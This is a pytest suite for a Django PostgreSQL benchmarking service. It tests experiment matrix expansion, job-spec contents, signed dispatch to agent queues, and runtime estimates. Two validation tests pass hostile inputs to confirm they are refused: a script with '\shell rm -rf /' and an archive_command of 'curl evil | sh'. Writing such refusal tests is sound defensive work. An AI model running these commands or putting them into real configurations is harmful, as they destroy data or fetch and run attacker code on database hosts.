"""Scheduling and starting an experiment: matrix expansion, execution order, job
specs, one validation pass, dispatch in the recorded order, the estimate."""

import base64
import json

import pytest

from agents.contract.errors import JobError
from agents.contract.signing import unsigned, verify
from agents.contract.spec.document import validate_spec
from agents.contract.wire import RUN_JOB_TASK, agent_queue
from runs import services
from runs.agentlink.execution import derived_seed, execution_plan
from runs.estimates import GUESSED_TPS, RUN_OVERHEAD_S, SCALE_LOAD_S_PER_UNIT
from runs.models import Experiment, Run
from runs.services.errors import Conflict
from runs.services.validation import check_job_spec
from tests.runs.factories import (
    ConfigProfileFactory,
    ExperimentFactory,
    HostFactory,
    PgBuildFactory,
    UserFactory,
    WorkloadFactory,
)
from tests.runs.scheduling import axes_of, one_new_cell

pytestmark = pytest.mark.django_db


def queued_jobs(lab_redis, host_name: str) -> list[dict]:
    """The Celery messages waiting in an agent's queue, decoded."""
    messages = [json.loads(raw) for raw in lab_redis.lrange(agent_queue(host_name), 0, -1)]
    return [
        {"task": m["headers"]["task"], "args": json.loads(base64.b64decode(m["body"]))[0]}
        for m in messages
    ]


def test_two_configs_expand_into_two_runs_each_sweeping_both_client_counts(
    lab_redis, django_capture_on_commit_callbacks
):
    experiment = ExperimentFactory(
        config_profiles=[ConfigProfileFactory(), ConfigProfileFactory()], clients=[1, 4]
    )

    with django_capture_on_commit_callbacks(execute=True):
        runs = services.experiment_start(experiment, UserFactory())

    assert len(runs) == 2
    assert sorted(run.position for run in runs) == [0, 1]
    assert {run.config_profile for run in runs} == set(experiment.config_profiles.all())
    assert all(run.spec["sweep"]["clients"] == [1, 4] for run in runs)
    assert all(run.status == Run.Status.QUEUED for run in runs)
    assert len({run.token for run in runs}) == 2


def test_cells_are_numbered_hosts_then_builds_then_configs_then_storage_then_workloads(lab_redis):
    hosts = [HostFactory(name="a-host"), HostFactory(name="b-host")]
    builds = [PgBuildFactory(name="pg15", version="15"), PgBuildFactory(name="pg16")]
    experiment = ExperimentFactory(
        hosts=hosts,
        builds=builds,
        storage_layouts=[{"data": "nvme", "wal": None}, {"data": "sata", "wal": "nvme"}],
    )

    runs = sorted(services.experiment_start(experiment), key=lambda run: run.cell)

    cells = [(r.host.name, r.build.name, r.storage_data, r.storage_wal) for r in runs]
    assert cells == [
        ("a-host", "pg15", "nvme", ""),
        ("a-host", "pg15", "sata", "nvme"),
        ("a-host", "pg16", "nvme", ""),
        ("a-host", "pg16", "sata", "nvme"),
        ("b-host", "pg15", "nvme", ""),
        ("b-host", "pg15", "sata", "nvme"),
        ("b-host", "pg16", "nvme", ""),
        ("b-host", "pg16", "sata", "nvme"),
    ]


def test_job_spec_follows_the_contract(lab_redis):
    parent = ConfigProfileFactory(settings={"shared_buffers": "128MB", "fsync": True})
    profile = ConfigProfileFactory(parent=parent, settings={"shared_buffers": "256MB"})
    workload = WorkloadFactory(
        scale=10,
        setup_sql="CREATE TABLE t (id int);",
        scripts=[{"name": "upsert", "text": "\\set id random(1, 10)\nSELECT :id;\n", "weight": 2}],
        query_mode="prepared",
        no_vacuum=True,
        defines={"nrows": "100"},
    )
    experiment = ExperimentFactory(
        builds=[PgBuildFactory(version="16.15", source="prebuilt")],
        config_profiles=[profile],
        workloads=[workload],
        storage_layouts=[{"data": "nvme", "wal": "sata"}],
        clients=[1, 2, 4],
        duration_s=None,
        transactions=500,
        repeats=2,
        order="interleaved",
        execution="blocks",
        warmup_s=3,
        between_points="vacuum",
    )

    (run,) = services.experiment_start(experiment)

    assert run.spec["job_id"].startswith(f"{run.pk}:")
    assert run.spec == {
        "version": 1,
        "run_id": str(run.pk),
        "token": run.token,
        "job_id": run.spec["job_id"],
        "postgres": {"version": "16.15", "source": "prebuilt", "build": None},
        "settings": {"shared_buffers": "256MB", "fsync": True},
        "storage": {"data": "nvme", "wal": "sata"},
        "dataset": {
            "scale": 10,
            "init_steps": "dtgvp",
            "partitions": None,
            "partition_method": None,
            "unlogged_tables": False,
            "fillfactor": None,
            "foreign_keys": False,
            "setup_sql": "CREATE TABLE t (id int);",
        },
        "workload": {
            "scripts": [
                {"name": "upsert", "text": "\\set id random(1, 10)\nSELECT :id;\n", "weight": 2}
            ],
            "query_mode": "prepared",
            "no_vacuum": True,
            "rate_tps": None,
            "latency_limit_ms": None,
            "max_tries": None,
            "defines": {"nrows": "100"},
            "latency_log": "sampled",
            "progress": False,
            "statement_latencies": False,
            "vacuum_all": False,
            "connect_per_transaction": False,
            "track_statements": False,
            "processes": [],
        },
        "sweep": {
            "clients": [1, 2, 4],
            "threads": None,
            "duration_s": None,
            "transactions": 500,
            "repeats": 2,
            "order": "interleaved",
            "warmup_s": 3,
            "between_points": "vacuum",
            "first_repeat": 1,
            "seed": None,
            "cpu_profile": False,
        },
        "network": {"role": "local", "peer": None, "join_timeout_s": 3600},
    }
    assert validate_spec(run.spec) == run.spec


def test_jobs_reach_the_agent_queue_only_after_the_commit(
    lab_redis, django_capture_on_commit_callbacks
):
    experiment = ExperimentFactory()
    host = experiment.hosts.get()

    with django_capture_on_commit_callbacks(execute=False) as callbacks:
        (run,) = services.experiment_start(experiment)
    assert queued_jobs(lab_redis, host.name) == []

    for callback in callbacks:
        callback()
    (job,) = queued_jobs(lab_redis, host.name)
    assert job["task"] == RUN_JOB_TASK
    assert verify("job", job["args"][0], host.secret)
    assert unsigned(job["args"][0]) == run.spec


def test_setting_with_a_bad_value_is_refused_naming_the_field(pg_catalogue, lab_redis):
    build = PgBuildFactory(version=pg_catalogue.version)
    profile = ConfigProfileFactory(settings={"shared_buffers": "lots"})
    experiment = ExperimentFactory(builds=[build], config_profiles=[profile])

    with pytest.raises(JobError) as raised:
        services.experiment_start(experiment)

    assert raised.value.code == "invalid_setting_value"
    assert raised.value.field == "settings.shared_buffers"
    assert profile.name in raised.value.message
    assert not Run.objects.exists()


def test_unknown_setting_is_refused_when_the_catalogue_is_known(pg_catalogue, lab_redis):
    major = pg_catalogue.version.split(".")[0]
    build = PgBuildFactory(version=major)
    experiment = ExperimentFactory(
        builds=[build], config_profiles=[ConfigProfileFactory(settings={"shared_bufers": "1GB"})]
    )

    with pytest.raises(JobError) as raised:
        services.experiment_start(experiment)

    assert raised.value.code == "unknown_setting"
    assert "shared_buffers" in raised.value.message


def test_shell_script_is_refused_naming_the_script(lab_redis):
    workload = WorkloadFactory(
        scripts=[
            {"builtin": "select-only", "weight": 1},
            {"name": "evil", "text": "\\shell rm -rf /\nSELECT 1;\n", "weight": 1},
        ]
    )
    experiment = ExperimentFactory(workloads=[workload])

    with pytest.raises(JobError) as raised:
        services.experiment_start(experiment)

    assert raised.value.code == "refused_script"
    assert raised.value.field == "workload.scripts[1].text"


def test_archive_command_is_refused_even_without_a_catalogue(lab_redis):
    profile = ConfigProfileFactory(settings={"archive_command": "curl evil | sh"})
    experiment = ExperimentFactory(config_profiles=[profile])

    with pytest.raises(JobError) as raised:
        services.experiment_start(experiment)

    assert raised.value.code == "refused_setting"
    assert raised.value.field == "settings.archive_command"


def test_one_bad_cell_queues_nothing(pg_catalogue, lab_redis):
    build = PgBuildFactory(version=pg_catalogue.version)
    good = ConfigProfileFactory(name="a-good", settings={"work_mem": "8MB"})
    bad = ConfigProfileFactory(name="b-bad", settings={"work_mem": "eight"})
    experiment = ExperimentFactory(builds=[build], config_profiles=[good, bad])

    with pytest.raises(JobError):
        services.experiment_start(experiment)

    assert not Run.objects.exists()


def test_without_a_catalogue_the_check_says_the_agent_validates_the_rest():
    notes = services.check_settings({"shared_buffers": "whatever"}, "17")

    assert len(notes) == 1
    assert "the agent validates the rest" in notes[0]


def expected_estimate(
    execution: str, runs: int, busiest_runs: int, points_per_run: int, setup: float
) -> dict:
    """The estimate of `runs` runs of 10 s points after a 5 s warm-up, `busiest_runs` of
    them on the busiest host, each run paying `setup` seconds."""
    return {
        "execution": execution,
        "runs": runs,
        "points": runs * points_per_run,
        "setup_seconds": round(busiest_runs * setup),
        "estimated_seconds": round(busiest_runs * (setup + 5 + points_per_run * 10)),
        "expected_seconds": None,
        "max_seconds": None,
        "transaction_rates": None,
        "build_seconds": None,
        "build_times": None,
        "capacity_probes": None,
        "window_spread_pct": None,
        "probes_beyond_schedule": None,
    }


def test_estimate_in_blocks_counts_one_setup_per_cell_on_the_busiest_host():
    experiment = ExperimentFactory(
        hosts=[HostFactory(), HostFactory()],
        config_profiles=[ConfigProfileFactory(), ConfigProfileFactory()],
        clients=[1, 2],
        repeats=3,
        duration_s=10,
        warmup_s=5,
        execution="blocks",
    )

    estimate = services.experiment_estimate(experiment)

    setup = RUN_OVERHEAD_S + 0.5
    assert estimate == expected_estimate("blocks", 4, busiest_runs=2, points_per_run=6, setup=setup)


def test_estimate_in_rounds_adds_a_setup_and_warm_up_per_repeat_of_each_cell():
    experiment = ExperimentFactory(
        config_profiles=[ConfigProfileFactory(), ConfigProfileFactory()],
        workloads=[WorkloadFactory(scale=10)],
        clients=[1, 2],
        repeats=3,
        duration_s=10,
        warmup_s=5,
        execution="rounds",
    )

    estimate = services.experiment_estimate(experiment)

    setup = RUN_OVERHEAD_S + 10 * SCALE_LOAD_S_PER_UNIT
    assert estimate == expected_estimate("rounds", 6, busiest_runs=6, points_per_run=2, setup=setup)


def test_estimate_of_a_transactions_sweep_on_a_host_that_measured_nothing_is_guessed():
    """Points of 1,000 transactions per client at 1 and 2 clients, at GUESSED_TPS."""
    experiment = ExperimentFactory(duration_s=None, transactions=1000, repeats=2, warmup_s=0)

    estimate = services.experiment_estimate(experiment)

    setup = RUN_OVERHEAD_S + SCALE_LOAD_S_PER_UNIT
    points = 1000 * 1 / GUESSED_TPS + 1000 * 2 / GUESSED_TPS
    assert estimate["runs"] == 2 and estimate["transaction_rates"] == "guessed"
    assert estimate["setup_seconds"] == round(2 * setup)
    assert estimate["estimated_seconds"] == round(2 * (setup + points))


def rounds_experiment(**overrides) -> Experiment:
    values = {
        "config_profiles": [ConfigProfileFactory(name="a"), ConfigProfileFactory(name="b")],
        "repeats": 3,
        "execution": "rounds",
        "seed": 42,
        **overrides,
    }
    return ExperimentFactory(**values)


def test_rounds_queue_each_repeat_of_each_cell_as_its_own_run_round_by_round(lab_redis):
    runs = services.experiment_start(rounds_experiment())

    assert [run.position for run in runs] == list(range(6))
    assert [run.round for run in runs] == [1, 1, 2, 2, 3, 3]
    for round_number in (1, 2, 3):
        assert sorted(run.cell for run in runs if run.round == round_number) == [0, 1]
    assert all(run.spec["sweep"]["repeats"] == 1 for run in runs)
    assert [run.spec["sweep"]["first_repeat"] for run in runs] == [1, 1, 2, 2, 3, 3]


def test_rounds_follow_the_plan_of_the_recorded_seed(lab_redis):
    experiment = rounds_experiment(seed=7)

    runs = services.experiment_start(experiment)

    plan = execution_plan(2, 3, "rounds", 7)
    assert [(run.position, run.cell, run.round) for run in runs] == [
        (slot.position, slot.cell, slot.round) for slot in plan
    ]


def without_identity(spec: dict) -> dict:
    """A run's spec without what differs between the rounds of a cell."""
    sweep = {k: v for k, v in spec["sweep"].items() if k != "first_repeat"}
    per_run = ("run_id", "token", "job_id")
    return {**{k: v for k, v in spec.items() if k not in per_run}, "sweep": sweep}


def test_a_cells_runs_share_their_definition_and_differ_only_in_the_repeat(lab_redis):
    runs = services.experiment_start(rounds_experiment())

    first_cell = [run for run in runs if run.cell == 0]
    definitions = [without_identity(run.spec) for run in first_cell]
    assert all(definition == definitions[0] for definition in definitions)
    assert all(run.config_profile.name == "a" for run in first_cell)


def test_random_client_order_gives_each_run_its_own_seed_derived_from_the_experiments(lab_redis):
    runs = services.experiment_start(rounds_experiment(order="random", clients=[1, 2, 4, 8]))

    seeds = [run.spec["sweep"]["seed"] for run in runs]
    assert seeds == [derived_seed(42, run.position) for run in runs]
    assert len(set(seeds)) == len(seeds)


def test_blocks_queue_one_run_per_cell_in_matrix_order_with_every_repeat(lab_redis):
    runs = services.experiment_start(rounds_experiment(execution="blocks"))

    assert [(run.position, run.cell, run.round) for run in runs] == [(0, 0, None), (1, 1, None)]
    assert [run.config_profile.name for run in runs] == ["a", "b"]
    assert all(run.spec["sweep"]["repeats"] == 3 for run in runs)


def test_each_host_queue_holds_its_runs_in_the_recorded_order(
    lab_redis, django_capture_on_commit_callbacks
):
    hosts = [HostFactory(name="a-host"), HostFactory(name="b-host")]
    experiment = rounds_experiment(hosts=hosts)

    with django_capture_on_commit_callbacks(execute=True):
        runs = services.experiment_start(experiment)

    for host in hosts:
        # Celery's Redis transport pushes on the left and workers pop on the right.
        taken = [job["args"][0]["run_id"] for job in reversed(queued_jobs(lab_redis, host.name))]
        recorded = [
            run.run_id for run in sorted(runs, key=lambda r: r.position) if run.host == host
        ]
        assert taken == recorded
        assert len(taken) == 6


def test_schedule_validates_each_cells_spec_once_and_starts(lab_redis, monkeypatch):
    checked = []

    def counting_check(spec):
        checked.append(spec["settings"])
        return check_job_spec(spec)

    monkeypatch.setattr(services.experiments, "check_job_spec", counting_check)
    experiment = rounds_experiment()
    data = {
        "name": "rounds",
        **axes_of(experiment),
        "clients": [1, 2],
        "duration_s": 2,
        "repeats": 3,
        "execution": "rounds",
    }

    scheduled = services.experiment_schedule(UserFactory(), data, start=True)

    assert len(checked) == 2
    assert len(scheduled.runs) == 6
    assert scheduled.experiment.seed is not None


def test_schedule_without_start_leaves_a_draft_and_keeps_a_given_seed():
    experiment = rounds_experiment()
    data = {
        "name": "draft",
        **axes_of(experiment),
        "clients": [1],
        "duration_s": 2,
        "seed": 1234,
    }

    scheduled = services.experiment_schedule(None, data, start=False)

    assert scheduled.runs == []
    assert scheduled.experiment.status == "draft"
    assert scheduled.experiment.seed == 1234


def test_a_bad_cell_schedules_nothing(lab_redis):
    unsafe = ConfigProfileFactory(settings={"archive_command": "sh"})
    data = {
        "name": "bad",
        **one_new_cell(config_profiles=[unsafe]),
        "clients": [1],
        "duration_s": 2,
    }

    with pytest.raises(JobError):
        services.experiment_schedule(None, data, start=True)

    assert not Experiment.objects.exists()
    assert not Run.objects.exists()


def test_starting_twice_is_a_conflict_and_queues_nothing_more(lab_redis):
    experiment = rounds_experiment()
    services.experiment_start(experiment)

    with pytest.raises(Conflict):
        services.experiment_start(experiment)

    assert experiment.runs.count() == 6
